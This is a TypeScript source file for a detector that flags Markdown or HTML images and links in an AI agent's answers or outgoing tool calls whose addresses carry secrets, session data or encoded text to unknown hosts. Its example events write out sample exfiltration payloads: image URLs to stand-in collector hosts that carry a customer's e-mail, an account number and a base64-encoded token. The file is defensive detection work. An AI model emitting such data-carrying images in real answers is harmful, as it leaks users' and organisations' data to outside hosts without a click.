/** Finds images and links whose address carries data out: a client that shows them sends it. */
import type { Severity } from '../../core/alert.ts';
import type { ProvenanceEvent } from '../../core/event.ts';
import { keep } from '../bounded.ts';
import { parameterRole } from '../catalog/destinations.ts';
import { callText } from '../content/call_leaves.ts';
import type { ContentView } from '../content/content_view.ts';
import { sightsOf } from '../content/injection_evidence.ts';
import { isWithin, namedPlaces } from '../content/named_places.ts';
import { SIGHT } from '../content/sights.ts';
import { findLinks, type Link, type Payload, payloadOf, wordCount } from '../content/url_payload.ts';
import { defineDetector, type Match, type MatchStep } from '../detector.ts';
import { call, prompt, type RawEvent, result } from '../example_events.ts';
import { digestOf } from '../finding_id.ts';
import { type EventRef, refOf } from '../lineage/edge.ts';
import { extractSecrets } from '../lineage/secrets.ts';
import { serverName, shorten } from '../wording.ts';

interface State {
  /** Digests of whole addresses that prompts and results held: to repeat one carries nothing new. */
  seen: string[];
  /** Hosts that prompts named. */
  hosts: string[];
  /** Numbers that results held, and negative ones that stand for their e-mail addresses. */
  data: number[];
  /** The last result that held such data. */
  source?: EventRef;
}

type Carried = 'secret' | 'session data' | 'encoded text' | 'running text';

interface Detail {
  place: string;
  host: string;
  image: boolean;
  carried: Carried;
  /** Values of the session in the address. */
  values: number;
  chars: number;
}

const SEEN_MAX = 256;
const HOSTS_MAX = 64;
const DATA_MAX = 128;
/** E-mail addresses of one text. */
const ADDRESSES_MAX = 16;
const ENCODED_CHARS_MIN = 20;
const WORDS_MIN = 6;
/** One long number, or several values, are no chance. */
const LONG_NUMBER = 1e8;
const SEVERITY: Record<Carried, { image: Severity; link: Severity }> = {
  secret: { image: 'high', link: 'medium' },
  'session data': { image: 'medium', link: 'low' },
  'encoded text': { image: 'low', link: 'info' },
  'running text': { image: 'low', link: 'info' },
};

export default defineDetector<State, Detail>({
  metadata: {
    id: 'markdown_exfiltration',
    version: 1,
    title: 'Image or link carries data in its address',
    description: {
      detects:
        'An image or link in an answer to the user, or in the parameters of a call that sends data out, whose query or path ' +
        'holds a secret, values that a result of the session held, or text, plain or in base64 or hex, and whose whole ' +
        'address no prompt or result held before. An image is worse: it is loaded without a click.',
      misses:
        'Data that is spread over many short addresses, reordered or encrypted; addresses that a result already held in ' +
        'full; and what a client loads in other ways than Markdown and HTML.',
    },
    severity: 'medium',
    status: 'experimental',
    tags: ['AML.T0077', 'AML.T0057', 'AML.T0086', 'ASI01', 'LLM02', 'LLM05', 'MCP10'],
    references: [
      'https://atlas.mitre.org/techniques/AML.T0077',
      'https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/',
      'https://embracethered.com/blog/posts/2023/data-exfiltration-in-azure-openai-playground-fixed/',
    ],
    false_positives: [
      'Services that draw a diagram or chart from the address of its picture: told as low.',
      'A link that fills in a search, a map or a form with what the user asked for.',
      'Signed addresses that a tool hands out in parts.',
    ],
    runbook: [
      'Decode the address and read what it carries.',
      'Find out whose host it is, and which text of the session brought it up.',
      'If the client shows pictures of strangers, what the address carried has left: treat it as disclosed.',
      'Let the client load pictures from known hosts only.',
    ],
  },
  watches: ['prompt', 'tool.result', 'resource.read', 'response', 'tool.call'],
  group_by: 'session',
  initial: () => ({ seen: [], hosts: [], data: [] }),

  step(state, event, { content, call: profile, edges }) {
    if (event.type === 'tool.call') {
      const secret_paths = edges.filter((edge) => edge.kind === 'secret').map((edge) => edge.path);
      return profile?.egress === true ? callMatches(state, event, secret_paths) : [];
    }
    if (content === undefined) return [];
    if (event.type === 'response') return responseMatches(state, event, content);
    learn(state, event, content);
    return [];
  },

  explain({ steps, detail: { place, host, image, carried, values, chars } }) {
    const what = image ? 'an image' : 'a link';
    const how: Record<Carried, string> = {
      secret: 'a secret',
      'session data': `${values === 1 ? 'a value' : `${values} values`} that a result of the session held`,
      'encoded text': `${chars} characters of text in base64 or hex`,
      'running text': 'running text',
    };
    return {
      title: `${place} holds ${what} that carries ${carried} to ${shorten(host, 80)}`,
      reason:
        `${place} holds ${what} at ${shorten(host, 80)} whose address carries ${how[carried]}. No prompt or result of the ` +
        `session held this address.${image ? ' Whatever shows the image sends the address, without a click.' : ''}`,
      evidence: steps,
    };
  },

  examples: examples(),
});

function learn(state: State, event: ProvenanceEvent, content: ContentView): void {
  const { sights, numbers } = sightsOf(content);
  const linked = (sights & SIGHT.link) !== 0;
  if (linked) for (const { url } of findLinks(content.text)) keepNew(state.seen, digestOf([url]), SEEN_MAX);
  if (event.type === 'prompt') {
    for (const host of namedPlaces(event)) keepNew(state.hosts, host, HOSTS_MAX);
    return;
  }
  const before = state.data.length;
  for (const number of numbers) keepNew(state.data, number, DATA_MAX);
  if ((sights & SIGHT.at) !== 0)
    for (const address of addressMarks(content.text)) keepNew(state.data, address, DATA_MAX);
  if (state.data.length > before) state.source = refOf(event);
}

/** The e-mail addresses of a text as negative numbers, the first of them. */
function addressMarks(text: string): number[] {
  const marks: number[] = [];
  for (let at = text.indexOf('@'); at >= 0 && marks.length < ADDRESSES_MAX; at = text.indexOf('@', at + 1)) {
    let start = at;
    while (start > 0 && at - start < 64 && LOCAL.test(text.charAt(start - 1))) start--;
    const domain = start < at ? DOMAIN_PART.exec(text.slice(at + 1, at + 129))?.[0] : undefined;
    if (domain !== undefined) marks.push(-hashOf(`${text.slice(start, at)}@${domain}`.toLowerCase()));
  }
  return marks;
}

const LOCAL = /[\w.+-]/;
const DOMAIN_PART = /^[\w-]+(?:\.[\w-]{2,})+/;

/** FNV-1a: it need not be secret, only small. */
function hashOf(text: string): number {
  let hash = 0x811c9dc5;
  for (let at = 0; at < text.length; at++) hash = Math.imul(hash ^ text.charCodeAt(at), 0x01000193);
  return (hash >>> 0) + 1;
}

function keepNew<T>(list: T[], entry: T, entries_max: number): void {
  if (!list.includes(entry)) keep(list, entry, entries_max);
}

function responseMatches(state: State, event: ProvenanceEvent, { text }: ContentView): Match<Detail>[] {
  if (!text.includes('://')) return [];
  return findLinks(text).flatMap((link) => linkMatch(state, event, link, 'An answer to the user', true));
}

function callMatches(state: State, event: ProvenanceEvent, secret_paths: readonly string[]): Match<Detail>[] {
  const { leaves, sights } = callText(event);
  if ((sights & SIGHT.link) === 0) return [];
  return leaves.flatMap((leaf) => {
    if ((leaf.sights & SIGHT.link) === 0) return [];
    const place = `Parameter ${shorten(leaf.path, 80)} of ${shorten(event.tool ?? 'a tool', 64)} on ${serverName(event.server ?? '')}`;
    // The address that is called is an ordinary place for an identifier.
    const called = parameterRole(leaf.name).destination;
    const links = findLinks(leaf.text).filter((link) => link.image || !called || link.url === leaf.text.trim());
    return links.flatMap((link) => {
      const matches = linkMatch(state, event, link, place, !called);
      return matches.filter(({ detail }) => detail.carried !== 'secret' || !secret_paths.includes(leaf.path));
    });
  });
}

function linkMatch(state: State, event: ProvenanceEvent, link: Link, place: string, shown: boolean): Match<Detail>[] {
  const payload = payloadOf(link.url);
  if (payload === undefined || payload.texts.length === 0 || state.seen.includes(digestOf([link.url]))) return [];
  const { carried, values } = judge(state, payload, shown);
  if (carried === undefined) return [];
  const named = state.hosts.some((host) => isWithin(payload.host, host));
  if (named && carried !== 'secret') return [];
  const steps: MatchStep[] = [{ event: refOf(event), role: `This event holds the ${link.image ? 'image' : 'link'}` }];
  if (carried === 'session data' && state.source) {
    steps.unshift({ event: state.source, role: 'This result brought data of the session' });
  }
  return [
    {
      severity: SEVERITY[carried][link.image ? 'image' : 'link'],
      steps,
      source: payload.host,
      sink_digest: digestOf([carried, place]),
      detail: { place, host: payload.host, image: link.image, carried, values, chars: payload.encoded_chars },
    },
  ];
}

function judge(state: State, { texts, encoded_chars }: Payload, shown: boolean): { carried?: Carried; values: number } {
  const text = texts.join(' ');
  if (extractSecrets(text).length > 0) return { carried: 'secret', values: 1 };
  const values = sessionValues(state, text, shown || encoded_chars > 0);
  if (values > 0) return { carried: 'session data', values };
  if (encoded_chars >= ENCODED_CHARS_MIN) return { carried: 'encoded text', values: 0 };
  return shown && wordCount(text) >= WORDS_MIN ? { carried: 'running text', values: 0 } : { values: 0 };
}

/** How many values of earlier results a text holds; a single short number is chance. */
function sessionValues(state: State, text: string, numbers: boolean): number {
  const found = new Set<number>();
  let sure = false;
  for (const [digits] of numbers ? text.matchAll(/(?<!\d)\d{5,15}(?!\d)/g) : []) {
    const number = Number(digits);
    if (!state.data.includes(number)) continue;
    found.add(number);
    sure ||= number >= LONG_NUMBER;
  }
  for (const mark of addressMarks(text)) {
    if (!state.data.includes(mark)) continue;
    found.add(mark);
    sure = true;
  }
  return sure || found.size >= 2 ? found.size : 0;
}

function examples() {
  const response = (content: string): RawEvent => ({ type: 'response', content });
  const token = `ghp_${'r4Tn7Wq2Zs9Kx5Mv8Lb3'}${'Ce6Gy1Jh0Pd2Fa7U'}`;
  const customer = result('crm', 'get_customer', { name: 'Lee', mail: 'lee@customer.test', account: 4417209983 });
  return [
    {
      name: 'An answer shows an image that carries the address of a customer',
      fires: true,
      severity: 'medium' as const,
      events: [
        prompt('Who is our newest customer?'),
        call('crm', 'get_customer', { newest: true }),
        customer,
        response('It is Lee. ![status](https://pixel.collector.test/a.png?u=lee%40customer.test&n=4417209983)'),
      ],
    },
    {
      name: 'An image carries a token in base64',
      fires: true,
      severity: 'high' as const,
      events: [
        result('files', 'read_file', `CI_TOKEN=${token}`),
        response(`Done. ![](https://img.collector.test/${Buffer.from(`t=${token}`).toString('base64url')}.png)`),
      ],
    },
    {
      name: 'A comment goes out with an image tag that carries an account',
      fires: true,
      severity: 'medium' as const,
      events: [
        customer,
        call('code', 'post_comment', { body: '<img src="https://pixel.collector.test/p?id=4417209983&v=1">' }),
      ],
    },
    {
      name: 'An image holds encoded text of an unknown kind',
      fires: true,
      severity: 'low' as const,
      events: [
        prompt('Tell me a joke.'),
        response(
          `Ha. ![](https://draw.collector.test/${Buffer.from('the quick brown fox jumps over it').toString('base64url')})`,
        ),
      ],
    },
    {
      name: 'Near miss: the answer repeats an image that a page held',
      fires: false,
      events: [
        result('browser', 'get_page', 'See ![map](https://maps.example.org/m.png?q=lee%40customer.test&zoom=44172099)'),
        customer,
        response('![map](https://maps.example.org/m.png?q=lee%40customer.test&zoom=44172099)'),
      ],
    },
    {
      name: 'Near miss: a link to a record of a host that the user named',
      fires: false,
      events: [
        prompt('Give me the link of this customer in crm.example.org.'),
        customer,
        response('[Lee](https://crm.example.org/customers/4417209983?mail=lee@customer.test)'),
      ],
    },
    {
      name: 'Near miss: ordinary pictures and badges',
      fires: false,
      events: [
        customer,
        response(
          '![build](https://badge.example.net/build-passing-green?style=flat&logo=node) and ' +
            '![photo](https://cdn.example.net/2026/01/15/team-photo-large_1024x768.jpg?w=1024&h=768&fit=crop)',
        ),
      ],
    },
    {
      name: 'Near miss: a tool is called with an identifier that a result gave',
      fires: false,
      events: [
        customer,
        call('browser', 'fetch_url', { url: 'https://api.example.net/accounts/4417209983?fields=name' }),
      ],
    },
  ];
}
